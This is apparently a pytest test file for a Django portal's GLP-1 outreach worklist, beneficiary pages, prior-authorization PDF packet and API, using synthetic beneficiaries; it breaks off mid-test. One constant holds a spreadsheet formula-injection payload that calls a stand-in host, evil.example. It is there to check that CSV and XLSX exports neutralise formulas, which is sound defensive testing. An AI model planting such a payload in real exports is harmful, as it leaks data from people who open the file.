"""The GLP-1 outreach worklist, a beneficiary's GLP-1 page and the prior-authorization packet (issue 21).

The world: a GLP-1 run of PY2027 (eligibility as of 2027-07-01) written straight into the tables, as the GLP-1
step leaves them. The ACO has

* ``LIKELY`` Ada Lovelace, 70, TIN ``T1`` / NPI ``N1``: Z68.36 (BMI 36.0–36.9) on 2027-03-03, claim 9001 (CCLF5),
  Part D seen: likely eligible on BMI alone;
* ``CONFIRM`` Grace Hopper, 66, TIN ``T2`` / NPI ``N2``: Z68.31 on 2027-02-10, claim 9101, and hypertension I10 on
  2027-02-01, claim 9102 (CCLF5): BMI ≥ 30 with hypertension, "uncontrolled" to confirm;
* ``NOT_ELIGIBLE`` (BMI under 27) and ``TREATED`` (Wegovy from 2027-01-05, two fills): not on the worklist;

and the other ACO one likely-eligible beneficiary, ``ELSEWHERE``, which nothing of the ACO may show.

Lifestyle participation (``enrolled`` below): the ACO has ``LIKELY`` in manufacturer coaching and nutrition
counselling, ``TREATED`` in manufacturer coaching (3 sessions, the last on 2027-03-15); the other ACO has
``CONFIRM`` and ``TREATED`` in nutrition counselling with sessions, which never show for the ACO.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.http import Http404
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from pypdf import PdfReader

from apps.accounts.models import AccessLog, User
from apps.acos.models import ACO, Membership
from apps.balance import outreach, packet
from apps.balance import selectors_worklist as worklist
from apps.balance.models import (
    Glp1Beneficiary,
    Glp1Fill,
    Glp1Run,
    LifestyleEnrolment,
    LifestyleSession,
    Outreach,
    OutreachChange,
)
from apps.balance.parameters import DEFAULT_PARAMETERS
from tests.factories import MembershipFactory, alignment_run

pytestmark = pytest.mark.django_db
ClientFor = Callable[[User | None], Client]

PY = 2027
LIKELY, CONFIRM, NOT_ELIGIBLE, TREATED, ELSEWHERE = (
    "1EG4TE5MK31",
    "1EG4TE5MK32",
    "1EG4TE5MK33",
    "1EG4TE5MK34",
    "1EG4TE5MK39",
)
T1, T2, N1, N2 = "111000001", "111000002", "1234567893", "1245319599"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
WEGOVY = "00169452514"


@pytest.fixture
def run(aco: ACO, other_aco: ACO) -> Glp1Run:
    made = Glp1Run.objects.create(
        performance_year=PY,
        alignment_run=alignment_run(PY),
        as_of=dt.date(2027, 7, 1),
        through=dt.date(2027, 6, 30),
        parameters=DEFAULT_PARAMETERS.as_json(),
        status=Glp1Run.Status.SUCCEEDED,
        finished_at=timezone.now(),
    )
    common: dict[str, Any] = {"run": made, "aco": aco, "part_d_active": True, "part_d_last_fill": dt.date(2027, 5, 2)}
    Glp1Beneficiary.objects.create(
        **common, mbi=LIKELY, first_name="Ada", last_name="Lovelace", age=70, tin=T1, npi=N1, status="likely",
        criterion="BMI 35 or more (Z68.36)", bmi_code="Z6836", bmi_date=dt.date(2027, 3, 3), bmi_claim_id=9001,
        bmi_source=5, bmi_class=35,
    )  # fmt: skip
    Glp1Beneficiary.objects.create(
        **common, mbi=CONFIRM, first_name="Grace", last_name="Hopper", age=66, tin=T2, npi=N2, status="confirm",
        reasons=["BMI 30–34.9 (Z68.31); confirm that the hypertension is uncontrolled."],
        reason_keys=["confirm_hypertension"],
        bmi_code="Z6831", bmi_date=dt.date(2027, 2, 10), bmi_claim_id=9101, bmi_source=5, bmi_class=30,
        comorbidities=[{"condition": "hypertension", "label": "hypertension", "code": "I10", "date": "2027-02-01",
                        "claim_id": 9102, "source": 5}],
    )  # fmt: skip
    Glp1Beneficiary.objects.create(
        **common, mbi=NOT_ELIGIBLE, first_name="Alan", last_name="Turing", age=71, tin=T1, npi=N1,
        status="not_eligible", reasons=["BMI 25.0–25.9 (Z68.25): the criteria start at BMI 27."],
        bmi_code="Z6825", bmi_date=dt.date(2027, 1, 9), bmi_claim_id=9201, bmi_source=4, bmi_class=0,
    )  # fmt: skip
    Glp1Beneficiary.objects.create(
        **common, mbi=TREATED, first_name="Edsger", last_name="Dijkstra", age=68, tin=T1, npi=N1, status="treated",
        criterion="BMI 35 or more (Z68.38)", bmi_code="Z6838", bmi_date=dt.date(2026, 12, 1), bmi_claim_id=9301,
        bmi_source=5, bmi_class=35, therapy_start=dt.date(2027, 1, 5), product="Wegovy (injection)",
        products=["Wegovy (injection)"], fills=2, days_supply=56, last_fill=dt.date(2027, 2, 2),
        covered_through=dt.date(2027, 3, 1), pdc=0.3333, pdc_90=0.6222, pdc_180=0.3111, gaps=1,
        discontinued_on=dt.date(2027, 3, 2), months_supplied=2, drug_cost_cents=49_000, copay_cents=10_000,
        patient_paid_cents=10_000, spend_before_cents=600_000, months_before=6, spend_after_cents=300_000,
        months_after=6,
    )  # fmt: skip
    for day, claim in ((dt.date(2027, 1, 5), 7001), (dt.date(2027, 2, 2), 7002)):
        Glp1Fill.objects.create(
            run=made, aco=aco, mbi=TREATED, fill_date=day, ndc=WEGOVY, product="Wegovy (injection)", bridge=True,
            days_supply=28, claim_id=claim, patient_paid_cents=5_000,
        )  # fmt: skip
    Glp1Beneficiary.objects.create(
        run=made, aco=other_aco, mbi=ELSEWHERE, first_name="Other", last_name="Person", age=72, tin="999000009",
        npi="1999999992", status="likely", criterion="BMI 35 or more (Z68.40)", bmi_code="Z6841", bmi_class=40,
        bmi_date=dt.date(2027, 4, 4), bmi_claim_id=9901, bmi_source=5,
    )  # fmt: skip
    return made


def enrolment(aco: ACO, mbi: str, programme: str, *sessions: dt.date) -> LifestyleEnrolment:
    made = LifestyleEnrolment.objects.create(aco=aco, mbi=mbi, programme=programme, enrolled_on=dt.date(2027, 1, 10))
    for day in sessions:
        LifestyleSession.objects.create(enrolment=made, session_date=day)
    return made


@pytest.fixture
def enrolled(run: Glp1Run, aco: ACO, other_aco: ACO) -> Glp1Run:
    enrolment(aco, LIKELY, "nutrition")
    enrolment(aco, LIKELY, "coaching", dt.date(2027, 2, 1))
    enrolment(aco, TREATED, "coaching", dt.date(2027, 2, 1), dt.date(2027, 3, 15), dt.date(2027, 2, 15))
    enrolment(other_aco, CONFIRM, "cdp_reward", dt.date(2027, 2, 1))
    enrolment(other_aco, TREATED, "nutrition", dt.date(2027, 4, 1), dt.date(2027, 4, 8))
    return run


def url(aco: ACO, suffix: str = "worklist/") -> str:
    return f"/acos/{aco.aco_id}/glp1/{suffix}"


def mbis_of(qs: Any) -> list[str]:
    return [r.mbi for r in qs]


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


# --------------------------------------------------------------------------------------------------
# The worklist: who is on it, filters, sorting, empty state
# --------------------------------------------------------------------------------------------------
def test_the_worklist_lists_the_likely_eligible_and_those_to_confirm(
    run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    response = client_for(admin).get(url(aco), {"py": PY})
    assert response.status_code == 200
    body = response.content.decode()
    assert LIKELY in body and CONFIRM in body
    assert NOT_ELIGIBLE not in body and TREATED not in body and ELSEWHERE not in body
    text = text_of(body)
    assert "2 beneficiaries" in text
    assert "35–39.9 Z68.36, 3 Mar 2027" in text  # BMI class with its code and date
    assert "BMI 35 or more (Z68.36)" in text  # the criterion
    assert "Hypertension: confirm it is uncontrolled" in text  # what is to confirm
    assert "Not contacted" in text and "No one" in text
    log = AccessLog.objects.get(object_type="glp1_worklist")
    assert (log.user, log.action, log.aco_code, log.object_id) == (admin, "view", aco.aco_id, f"run {run.pk}")


def test_the_default_order_puts_the_likely_eligible_first(run: Glp1Run, aco: ACO) -> None:
    assert mbis_of(worklist.worklist(aco=aco, run=run)) == [LIKELY, CONFIRM]
    assert mbis_of(worklist.worklist(aco=aco, run=run, sort="name")) == [CONFIRM, LIKELY]  # Hopper, Lovelace


def test_filters_by_status_tin_npi_outreach_assignee_and_search(
    run: Glp1Run, aco: ACO, admin: User, analyst: User
) -> None:
    def rows(**filters: Any) -> list[str]:
        return mbis_of(worklist.worklist(aco=aco, run=run, user=admin, **filters))

    assert rows(status="confirm") == [CONFIRM]
    assert rows(status="not_eligible") == [LIKELY, CONFIRM]  # not a worklist status: both
    assert rows(tin=T1) == [LIKELY]
    assert rows(npi=N2) == [CONFIRM]
    assert rows(search="hop") == [CONFIRM]
    assert rows(search=LIKELY[:6]) == [LIKELY, CONFIRM]
    assert rows(search=LIKELY) == [LIKELY]
    assert rows(search=ELSEWHERE) == []
    outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, status="contacted", assignee=analyst)
    assert rows(outreach="contacted") == [CONFIRM]
    assert rows(outreach="not_contacted") == [LIKELY]
    assert rows(assignee="aco.analyst") == [CONFIRM]
    assert rows(assignee="none") == [LIKELY]
    assert rows(assignee="me") == []
    assert rows(assignee="other.admin") == []  # not a user of the ACO: nobody


def test_the_page_filters_by_tin_and_outreach(run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor) -> None:
    client = client_for(admin)
    body = client.get(url(aco), {"py": str(PY), "tin": T2}).content.decode()
    assert CONFIRM in body and LIKELY not in body
    assert "1 beneficiary matching the filters" in text_of(body)
    partial = client.get(url(aco), {"py": str(PY), "q": "Lov"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="list-results")
    assert LIKELY in partial.content.decode() and CONFIRM not in partial.content.decode()
    assert "<h1>" not in partial.content.decode()  # the list alone, for htmx


def test_without_a_run_the_worklist_says_eligibility_has_not_been_computed(
    aco: ACO, admin: User, client_for: ClientFor
) -> None:
    body = text_of(client_for(admin).get(url(aco), {"py": PY}).content.decode())
    assert f"GLP-1 eligibility has not been computed for PY{PY} yet" in body
    assert client_for(admin).get(url(aco, "worklist/export/"), {"py": PY}).status_code == 404
    assert client_for(admin).get(url(aco, f"beneficiaries/{LIKELY}/"), {"py": PY}).status_code == 404


def test_the_worklist_shows_each_ones_lifestyle_programmes(
    enrolled: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    html = client_for(admin).get(url(aco), {"py": PY}).content.decode()
    assert '<th scope="col">Lifestyle</th>' in html
    rows = {m: text_of(html[html.index(f'value="{m}"') :].split("</tr>")[0]) for m in (LIKELY, CONFIRM)}
    assert "Coaching , Nutrition" in rows[LIKELY]  # in the order of the programmes, short labels
    assert '<span title="Manufacturer coaching">Coaching</span>, <span title="Nutrition counselling">' in html
    assert "—" in rows[CONFIRM] and "CDP" not in rows[CONFIRM]  # the other ACO's enrolment never shows


def test_the_lifestyle_column_costs_one_query_per_page(
    run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    client = client_for(admin)
    client.get(url(aco), {"py": PY})  # warm up (sessions, caches)

    def queries() -> int:
        with CaptureQueriesContext(connection) as caught:
            assert client.get(url(aco), {"py": PY}).status_code == 200
        return len(caught.captured_queries)

    before = queries()
    enrolment(aco, LIKELY, "coaching", dt.date(2027, 2, 1), dt.date(2027, 2, 8))
    enrolment(aco, LIKELY, "nutrition", dt.date(2027, 2, 2))
    enrolment(aco, CONFIRM, "coaching")
    assert queries() == before  # however many enrolments and sessions the page's rows have
    programmes = worklist.lifestyle_programmes(aco=aco, mbis=[LIKELY, CONFIRM, ELSEWHERE])
    assert programmes == {
        LIKELY: [("Coaching", "Manufacturer coaching"), ("Nutrition", "Nutrition counselling")],
        CONFIRM: [("Coaching", "Manufacturer coaching")],
    }


# --------------------------------------------------------------------------------------------------
# Export
# --------------------------------------------------------------------------------------------------
def test_the_csv_export_has_only_this_acos_filtered_rows_and_no_formula(
    run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, status="referred", note=FORMULA)
    response = client_for(admin).get(url(aco, "worklist/export/"), {"py": str(PY), "format": "csv"})
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"glp1-worklist-{aco.aco_id}-py{PY}-run{run.pk}-" in disposition
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[0][:3] == ["MBI", "Last name", "First name"]
    assert [r[0] for r in table[1:]] == [LIKELY, CONFIRM]
    assert all(len(r) == len(table[0]) for r in table)
    row = dict(zip(table[0], table[2], strict=True))
    assert row["Outreach status"] == "Referred"
    assert row["Outreach note"] == "'" + FORMULA  # shown as text, never run
    assert row["BMI code"] == "Z68.31" and row["BMI code date"] == "2027-02-10" and row["BMI claim"] == "9101"
    assert "uncontrolled" in row["To confirm"]
    body = response.content.decode()
    assert ELSEWHERE not in body and "999000009" not in body
    log = AccessLog.objects.get(object_type="glp1_worklist", action="export")
    assert log.aco_code == aco.aco_id and "csv export, 2 rows" in log.detail

    filtered = client_for(admin).get(url(aco, "worklist/export/"), {"py": str(PY), "format": "csv", "status": "likely"})
    assert [r[0] for r in list(csv.reader(io.StringIO(filtered.content.decode())))[1:]] == [LIKELY]


def test_the_xlsx_export_writes_text_as_strings_never_formulas(
    run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, note=FORMULA)
    response = client_for(admin).get(url(aco, "worklist/export/"), {"py": str(PY), "format": "xlsx"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings and LIKELY in strings and ELSEWHERE not in strings
    assert client_for(admin).get(url(aco, "worklist/export/"), {"py": str(PY), "format": "pdf"}).status_code == 404


# --------------------------------------------------------------------------------------------------
# Outreach: the rules of the service, the page, bulk
# --------------------------------------------------------------------------------------------------
def test_an_administrator_records_outreach_and_every_change_is_kept(
    run: Glp1Run, aco: ACO, admin: User, analyst: User
) -> None:
    first = outreach.outreach_update(
        aco=aco, mbi=CONFIRM, acting_user=admin, status="contacted", note="Left a message."
    )
    assert (first.status, first.assignee, first.note, first.updated_by) == ("contacted", None, "Left a message.", admin)
    outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, assignee=analyst)
    outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, assignee=analyst)  # no change: nothing kept
    changes = list(OutreachChange.objects.filter(outreach__mbi=CONFIRM).order_by("id"))
    assert [(c.status, c.assignee, c.note, c.by) for c in changes] == [
        ("contacted", None, "Left a message.", admin),
        ("contacted", analyst, "Left a message.", admin),
    ]
    assert Outreach.objects.get(aco=aco, mbi=CONFIRM).assignee == analyst


def test_an_analyst_cannot_record_outreach(run: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor) -> None:
    with pytest.raises(PermissionDenied):
        outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=analyst, status="contacted")
    with pytest.raises(PermissionDenied):
        outreach.outreach_bulk_update(aco=aco, mbis=[CONFIRM], acting_user=analyst, status="contacted")
    client = client_for(analyst)
    page = client.get(url(aco, f"beneficiaries/{CONFIRM}/"), {"py": PY})
    assert page.status_code == 200 and "Save outreach" not in page.content.decode()
    assert "read-only" in page.content.decode()
    assert client.post(url(aco, f"beneficiaries/{CONFIRM}/") + f"?py={PY}", {"status": "contacted"}).status_code == 403
    assert client.post(url(aco, "worklist/outreach/"), {"mbis": [CONFIRM], "status": "contacted"}).status_code == 403
    assert not Outreach.objects.exists()


def test_an_assignee_from_another_aco_is_refused(run: Glp1Run, aco: ACO, admin: User, outsider: User) -> None:
    with pytest.raises(ValidationError) as refused:
        outreach.outreach_update(aco=aco, mbi=CONFIRM, acting_user=admin, status="contacted", assignee=outsider)
    assert refused.value.message_dict == {"assignee": [f"other.admin is not a user of {aco.aco_id}."]}
    with pytest.raises(ValidationError):
        outreach.outreach_bulk_update(aco=aco, mbis=[CONFIRM, LIKELY], acting_user=admin, assignee=outsider)
    assert not Outreach.objects.exists() and not OutreachChange.objects.exists()


def test_outreach_to_another_acos_beneficiary_is_not_found(run: Glp1Run, aco: ACO, admin: User) -> None:
    with pytest.raises(Http404):
        outreach.outreach_update(aco=aco, mbi=ELSEWHERE, acting_user=admin, status="contacted")
    with pytest.raises(Http404):
        outreach.outreach_bulk_update(aco=aco, mbis=[LIKELY, ELSEWHERE], acting_user=admin, status="contacted")
    assert not Outreach.objects.exists()


def test_a_note_longer_than_500_characters_is_refused(run: Glp1Run, aco: ACO, admin: User) -> None:
    with pytest.raises(ValidationError) as refused:
        outreach.outreach_update(aco=aco, mbi=LIKELY, acting_user=admin, note="x" * 501)
    assert "At most 500 characters" in refused.value.message_dict["note"][0]


def test_bulk_outreach_from_the_worklist(
    run: Glp1Run, aco: ACO, admin: User, analyst: User, client_for: ClientFor
) -> None:
    client = client_for(admin)
    response = client.post(
        url(aco, "worklist/outreach/") + f"?py={PY}",
        {"mbis": [LIKELY, CONFIRM], "status": "contacted", "assignee": "aco.analyst", "list_query": "tin=&py=2027"},
    )
    assert response.status_code == 302 and response["Location"].startswith(url(aco))
    assert {(o.mbi, o.status, o.assignee) for o in Outreach.objects.all()} == {
        (LIKELY, "contacted", analyst),
        (CONFIRM, "contacted", analyst),
    }
    assert OutreachChange.objects.count() == 2
    # Another ACO's user as assignee: refused, nothing changes.
    refused = client.post(url(aco, "worklist/outreach/"), {"mbis": [LIKELY], "assignee": "other.admin"})
    assert refused.status_code == 400
    assert outreach.outreach_bulk_update(aco=aco, mbis=[LIKELY], acting_user=admin, status="contacted") == 0


def test_the_beneficiary_page_saves_outreach(
    run: Glp1Run, aco: ACO, admin: User, analyst: User, client_for: ClientFor
) -> None:
    client = client_for(admin)
    page = url(aco, f"beneficiaries/{CONFIRM}/")
    response = client.post(
        page + f"?py={PY}", {"status": "referred", "assignee": "aco.analyst", "note": "Referred to Dr. Lee."}
    )
    assert response.status_code == 302
    current = Outreach.objects.get(aco=aco, mbi=CONFIRM)
    assert (current.status, current.assignee, current.note) == ("referred", analyst, "Referred to Dr. Lee.")
    body = text_of(client.get(response["Location"]).content.decode())
    assert "Referred, assigned to" in body and "Referred to Dr. Lee." in body
    assert "Outreach history" in body and "Every change, newest first" in body
    bad = client.post(page + f"?py={PY}", {"status": "maybe"})
    assert bad.status_code == 400


# --------------------------------------------------------------------------------------------------
# The beneficiary's GLP-1 page
# --------------------------------------------------------------------------------------------------
def test_the_beneficiary_page_shows_the_claims_evidence(
    run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor
) -> None:
    response = client_for(admin).get(url(aco, f"beneficiaries/{CONFIRM}/"), {"py": PY})
    assert response.status_code == 200
    text = text_of(response.content.decode())
    assert "Needs clinical confirmation." in text
    assert "confirm that the hypertension is uncontrolled" in text
    assert "66 on 1 Jul 2027" in text
    assert "Part D fills seen; the last on 2 May 2027" in text
    assert "code Z68.31 (BMI 31.0–31.9) on 10 Feb 2027, claim 9101 (CCLF5)" in text
    assert "Hypertension I10 1 Feb 2027 9102 CCLF5" in text  # the comorbidity row: code, date, claim, file
    assert "Download the prior-authorization packet (PDF)" in text
    log = AccessLog.objects.get(object_type="glp1_beneficiary")
    assert (log.object_id, log.action, log.aco_code) == (CONFIRM, "view", aco.aco_id)


def test_a_treated_beneficiarys_page_shows_therapy_adherence_cost_and_spending(
    run: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    text = text_of(client_for(analyst).get(url(aco, f"beneficiaries/{TREATED}/"), {"py": PY}).content.decode())
    assert "Treated under the Medicare GLP-1 Bridge since 5 Jan 2027." in text
    assert "33.3% overall; 62.2% in the first 90 days; 31.1% in the first 180 days" in text
    assert "discontinued on 2 Mar 2027" in text
    assert "At the Bridge net price $490.00" in text and "At the Bridge copay $100.00" in text
    assert "Observational, not causal" in text
    assert "$1,000.00 in the 6 months before therapy start, $500.00 in the 6 months after" in text
    assert "5 Jan 2027 Wegovy (injection) 00169452514 Yes 28 7001 $50.00" in text  # the fills table


def test_a_treated_beneficiarys_lifestyle_participation_is_beside_adherence(
    enrolled: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    html = client_for(analyst).get(url(aco, f"beneficiaries/{TREATED}/"), {"py": PY}).content.decode()
    therapy = text_of(html[html.index('id="glp1-therapy"') :].split("</dl>")[0])
    # Beside the PDC: the ACO's own enrolment only (the other ACO's nutrition counselling never counts).
    assert "Lifestyle programmes Manufacturer coaching: 3 sessions attended, the last on 15 Mar 2027" in therapy
    section = text_of(html[html.index('id="glp1-lifestyle"') :].split("</dl>")[0])
    assert "Programmes Manufacturer coaching" in section and "Sessions attended 3" in section
    assert "Last session 15 Mar 2027" in section
    assert "Nutrition" not in therapy + section
    assert f'href="/acos/{aco.aco_id}/glp1/lifestyle/?py={PY}&amp;q={TREATED}"' in html


def test_a_beneficiary_in_no_programme_says_so(enrolled: Glp1Run, aco: ACO, admin: User, client_for: ClientFor) -> None:
    html = client_for(admin).get(url(aco, f"beneficiaries/{CONFIRM}/"), {"py": PY}).content.decode()
    text = text_of(html)
    assert "Not enrolled in a lifestyle programme." in text  # the other ACO's CDP Reward enrolment is not its
    assert "Chronic Disease Prevention" not in text
    assert f"/acos/{aco.aco_id}/glp1/lifestyle/?py={PY}" in html
    likely = text_of(client_for(admin).get(url(aco, f"beneficiaries/{LIKELY}/"), {"py": PY}).content.decode())
    assert "Programmes Manufacturer coaching, Nutrition counselling" in likely
    assert "Sessions attended 1" in likely and "Last session 1 Feb 2027" in likely


def test_a_beneficiary_not_the_acos_is_not_found(run: Glp1Run, aco: ACO, admin: User, client_for: ClientFor) -> None:
    client = client_for(admin)
    assert client.get(url(aco, f"beneficiaries/{ELSEWHERE}/"), {"py": PY}).status_code == 404
    assert client.get(url(aco, f"beneficiaries/{ELSEWHERE}/packet.pdf"), {"py": PY}).status_code == 404
    assert client.get(url(aco, "beneficiaries/NOTANMBI/"), {"py": PY}).status_code == 404


# --------------------------------------------------------------------------------------------------
# The prior-authorization packet
# --------------------------------------------------------------------------------------------------
def test_the_12_questions_prefill_what_the_claims_show(run: Glp1Run, aco: ACO) -> None:
    row = Glp1Beneficiary.objects.get(run=run, mbi=CONFIRM)
    asked = packet.questions(row=row, fills=[], parameters=run.parameters, as_of=run.as_of)
    assert [q.number for q in asked] == list(range(1, 13))
    by_number = {q.number: q for q in asked}
    assert by_number[1].claims_show == "Yes: Part D fills are seen"
    assert by_number[2].claims_show == "Yes" and by_number[2].evidence == (
        "Age 66 on 1 Jul 2027 (date of birth in CCLF8)",
    )
    assert by_number[3].claims_show == "No"  # BMI 30–34.9 is under 35
    assert by_number[3].evidence == ("Z68.31 (BMI 31.0–31.9) on 10 Feb 2027, claim 9101 (CCLF5)",)
    assert "uncontrolled hypertension" in by_number[5].text
    assert by_number[5].claims_show == "Hypertension seen; clinician to confirm that the hypertension is uncontrolled"
    assert by_number[5].evidence[0] == "Hypertension: I10 on 1 Feb 2027, claim 9102 (CCLF5)"
    assert by_number[4].claims_show.startswith(packet.NOT_SEEN)  # no HFpEF code
    assert by_number[12].claims_show.startswith(packet.NOT_SEEN)  # no Bridge fill yet


def test_the_packet_pdf_carries_the_evidence_and_the_disclaimer_on_every_page(
    run: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    response = client_for(analyst).get(url(aco, f"beneficiaries/{CONFIRM}/packet.pdf"), {"py": PY})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    disposition = response["Content-Disposition"]
    assert disposition == f'attachment; filename="glp1-prior-authorization-{aco.aco_id}-{CONFIRM}-run{run.pk}.pdf"'
    pages = [p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages]
    assert pages
    for page_text in pages:
        assert "Claims evidence, not a clinical attestation" in page_text
    text = re.sub(r"\s+", " ", " ".join(pages))
    for expected in (
        "Hopper, Grace",
        CONFIRM,
        aco.aco_id,
        aco.legal_name,
        f"GLP-1 run {run.pk}",
        "eligibility as of 1 Jul 2027",
        "Z68.31 (BMI 31.0-31.9) on 10 Feb 2027, claim 9101 (CCLF5)",
        "I10 on 1 Feb 2027, claim 9102 (CCLF5)",
        "Not seen in claims: clinician to confirm",
        "Is the patient taking a GLP-1 under Part D for type 2 diabetes",
    ):
        assert expected.replace("–", "-") in text.replace("–", "-"), expected
    assert re.search(r"generated \d{1,2} \w{3} \d{4} \d{2}:\d{2} E[SD]T", text)  # the portal's zone, named
    assert ELSEWHERE not in text and "999000009" not in text
    log = AccessLog.objects.get(object_type="glp1_packet")
    assert (log.object_id, log.action, log.user) == (CONFIRM, "export", analyst)


def test_a_treated_beneficiarys_packet_names_the_bridge_fills(run: Glp1Run, aco: ACO) -> None:
    row = Glp1Beneficiary.objects.get(run=run, mbi=TREATED)
    fills = list(Glp1Fill.objects.filter(run=run, mbi=TREATED).order_by("fill_date"))
    asked = packet.questions(row=row, fills=fills, parameters=run.parameters, as_of=run.as_of)
    assert "at the start of therapy" in asked[2].text
    assert asked[11].claims_show == "Yes: Bridge-covered fills are seen"
    assert asked[11].evidence[0] == f"Wegovy (injection), NDC {WEGOVY}, filled 5 Jan 2027, claim 7001"


# --------------------------------------------------------------------------------------------------
# API
# --------------------------------------------------------------------------------------------------
def api(aco: ACO, suffix: str) -> str:
    return f"/api/acos/{aco.aco_id}/glp1/{suffix}"


def test_the_api_lists_the_worklist_with_filters(
    run: Glp1Run, aco: ACO, admin: User, analyst: User, client_for: ClientFor
) -> None:
    outreach.outreach_update(aco=aco, mbi=LIKELY, acting_user=admin, status="contacted", assignee=analyst)
    client = client_for(analyst)
    data = client.get(api(aco, "worklist/"), {"py": PY}).json()
    assert data["count"] == 2 and [r["mbi"] for r in data["results"]] == [LIKELY, CONFIRM]
    first = data["results"][0]
    assert (first["outreach_status"], first["outreach_assignee"], first["bmi_code"]) == (
        "contacted",
        "aco.analyst",
        "Z6836",
    )
    assert [
        r["mbi"] for r in client.get(api(aco, "worklist/"), {"py": str(PY), "assignee": "me"}).json()["results"]
    ] == [LIKELY]
    assert [r["mbi"] for r in client.get(api(aco, "worklist/"), {"py": str(PY), "npi": N2}).json()["results"]] == [
        CONFIRM
    ]
    assert client.get(api(aco, "worklist/"), {"py": str(PY), "status": "treated"}).status_code == 400
    assert AccessLog.objects.filter(object_type="glp1_worklist", action="api").exists()


def test_the_api_gives_a_beneficiarys_detail_with_fills(
    run: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    data = client_for(analyst).get(api(aco, f"beneficiaries/{TREATED}/"), {"py": PY}).json()
    assert data["status"] == "treated" and data["run"] == run.pk and data["pdc_90"] == pytest.approx(0.6222)
    assert [(f["fill_date"], f["claim_id"], f["bridge"]) for f in data["fills_list"]] == [
        ("2027-01-05", 7001, True),
        ("2027-02-02", 7002, True),
    ]
    assert len(data["questions"]) == 12
    assert data["outreach"] == {
        "outreach_status": "not_contacted",
        "assignee": None,
        "note": "",
        "updated_at": None,
        "updated_by": None,
        "history": [],
    }
    assert AccessLog.objects.filter(object_type="glp1_beneficiary", object_id=TREATED, action="api").exists()
    assert data["lifestyle"] == {
        "enrolled": False,
        "programmes": [],
        "programme_labels": [],
        "sessions": 0,
        "last_session": None,
    }


def test_the_api_detail_gives_the_lifestyle_participation(
    enrolled: Glp1Run, aco: ACO, analyst: User, client_for: ClientFor
) -> None:
    data = client_for(analyst).get(api(aco, f"beneficiaries/{TREATED}/"), {"py": PY}).json()
    assert data["lifestyle"] == {
        "enrolled": True,
        "programmes": ["coaching"],
        "programme_labels": ["Manufacturer coaching"],
        "sessions": 3,
        "last_session": "2027-03-15",
    }
    other = client_for(analyst).get(api(aco, f"beneficiaries/{CONFIRM}/"), {"py": PY}).json()
    assert other["lifestyle"]["enrolled"] is False  # the other ACO's enrolment is not the ACO's


def test_the_api_patches_outreach_for_administrators_only(
    run: Glp1Run, aco: ACO, admin: User, analyst: User, client_for: ClientFor
) -> None:
    target = api(aco, f"beneficiaries/{CONFIRM}/outreach/")
    patched = client_for(admin).patch(
        target, {"outreach_status": "referred", "assignee": "aco.analyst"}, content_type="application/json"
    )
    assert patched.status_code == 200
    body = patched.json()
    assert (body["outreach_status"], body["assignee"], body["updated_by"]) == ("referred", "aco.analyst", "aco.admin")
    assert [(c["outreach_status"], c["by"]) for c in body["history"]] == [("referred", "aco.admin")]
    refused = client_for(analyst).patch(target, {"outreach_status": "declined"}, content_type="application/json")
    assert refused.status_code == 403
    other = client_for(admin).patch(target, {"assignee": "other.admin"}, content_type="application/json")
    assert other.status_code == 400 and "assignee" in other.json()
    bulk = client_for(admin).post(
        api(aco, "worklist/outreach/"),
        {"mbis": [LIKELY, CONFIRM], "outreach_status": "declined"},
        content_type="application/json",
    )
    assert bulk.status_code == 200 and bulk.json() == {"changed": 2}
    assert Outreach.objects.get(aco=aco, mbi=CONFIRM).status == "declined"


# --------------------------------------------------------------------------------------------------
# Tenancy: an outsider gets 404 everywhere
# --------------------------------------------------------------------------------------------------
def test_an_outsider_gets_404_on_every_page_and_endpoint(
    run: Glp1Run, aco: ACO, outsider: User, client_for: ClientFor
) -> None:
    client = client_for(outsider)
    for path in (
        url(aco),
        url(aco, "worklist/export/") + "?format=csv",
        url(aco, "worklist/export/") + "?format=xlsx",
        url(aco, f"beneficiaries/{CONFIRM}/"),
        url(aco, f"beneficiaries/{CONFIRM}/packet.pdf"),
        api(aco, "worklist/"),
        api(aco, f"beneficiaries/{CONFIRM}/"),
        api(aco, f"beneficiaries/{CONFIRM}/outreach/"),
    ):
        assert client.get(path).status_code == 404, path
    assert client.post(url(aco, "worklist/outreach/"), {"mbis": [CONFIRM], "status": "contacted"}).status_code == 404
    assert client.post(url(aco, f"beneficiaries/{CONFIRM}/"), {"status": "contacted"}).status_code == 404
    assert (
        client.patch(
